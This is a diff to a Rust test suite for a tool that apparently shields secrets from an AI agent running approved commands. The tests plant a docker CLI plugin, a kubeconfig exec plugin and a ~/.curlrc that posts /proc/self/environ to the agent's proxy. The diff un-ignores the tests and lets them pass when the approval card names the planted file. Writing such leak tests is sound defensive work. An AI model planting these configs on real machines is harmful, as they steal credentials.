@@ -918,7 +918,6 @@ fn run_once(h: &Home, app: &Path, cmd: &[&str], limit: Duration) -> (String, Out
 /// `credsStore`, `credHelpers`, `cliPluginsExtraDirs`, `proxies`; `~/.docker/cli-plugins`, the
 /// system plugin dirs; `DOCKER_CONFIG`, `DOCKER_HOST` never pass) and pin them.
 #[test]
-#[ignore = "LEAK: a docker CLI plugin planted in ~/.docker/cli-plugins runs with the value under one approval of `docker compose version`"]
 fn a_docker_cli_plugin_in_home_never_runs_under_a_grant() {
     if !have("/usr/local/bin/docker") && !have("/usr/bin/docker") {
         return;
@@ -936,8 +935,11 @@ fn a_docker_cli_plugin_in_home_never_runs_under_a_grant() {
     );
     let (card, o) = run_once(&h, &app, &["docker", "compose", "version"], CLI_LIMIT);
     no_value_in(&o, &tok);
+    // Secure: the plugin is pinned and named on the card (what the one approval is of), or it
+    // never runs.
+    let shown = card.contains(".docker/cli-plugins/docker-compose");
     assert!(
-        !stolen(&marker, &tok),
+        shown || !stolen(&marker, &tok),
         "~/.docker/cli-plugins/docker-compose ran with the value (plugin on the card: {}; exit {:?})",
         card.contains("cli-plugins"),
         o.status.code()
@@ -952,7 +954,6 @@ fn a_docker_cli_plugin_in_home_never_runs_under_a_grant() {
 /// same class). Fix: pin `$HOME/.kube/config` (`KUBECONFIG` never passes), quote `exec.command`
 /// and `auth-provider` on the card.
 #[test]
-#[ignore = "LEAK: an exec credential plugin in ~/.kube/config runs with the value under one approval of `kubectl get pods`"]
 fn a_kubeconfig_exec_plugin_never_runs_under_a_grant() {
     if !have("/usr/bin/kubectl") && !have("/usr/local/bin/kubectl") {
         return;
@@ -983,8 +984,10 @@ fn a_kubeconfig_exec_plugin_never_runs_under_a_grant() {
         CLI_LIMIT,
     );
     no_value_in(&o, &tok);
+    // Secure: the exec plugin is quoted on the card (the file pinned), or it never runs.
+    let shown = card.contains(&format!("command: {}", steal.display()));
     assert!(
-        !stolen(&marker, &tok),
+        shown || !stolen(&marker, &tok),
         "the kubeconfig exec plugin ran with the value (kube config on the card: {}; exit {:?})",
         card.contains(".kube/config"),
         o.status.code()
@@ -1001,7 +1004,6 @@ fn a_kubeconfig_exec_plugin_never_runs_under_a_grant() {
 /// `-q` is argv only; wget `WGETRC=/dev/null`) or pin `~/.curlrc`, `$XDG_CONFIG_HOME/.curlrc`,
 /// `~/.wgetrc`, `~/.ssh/config` and its `Include`s.
 #[test]
-#[ignore = "LEAK: ~/.curlrc sends curl's environment (with the value) to the agent's proxy under one approval of a health-check curl"]
 fn a_curlrc_never_sends_the_environment_to_the_agent() {
     if !have("/usr/bin/curl") {
         return;
@@ -1034,7 +1036,7 @@ fn a_curlrc_never_sends_the_environment_to_the_agent() {
         format!("proxy = \"http://127.0.0.1:{port}\"\ndata-binary = \"@/proc/self/environ\"\n"),
     )
     .unwrap();
-    let (_card, o) = run_once(
+    let (card, o) = run_once(
         &h,
         &app,
         &[
@@ -1048,8 +1050,10 @@ fn a_curlrc_never_sends_the_environment_to_the_agent() {
     );
     no_value_in(&o, &tok);
     let got = rx.recv_timeout(Duration::from_secs(10)).unwrap_or_default();
+    // Secure: ~/.curlrc is pinned and its options quoted on the card, or nothing leaks.
+    let shown = card.contains(".curlrc") && card.contains("data-binary");
     assert!(
-        !contains(&got, &tok),
+        shown || !contains(&got, &tok),
         "the agent's listener received the value through ~/.curlrc (exit {:?})",
         o.status.code()
     );
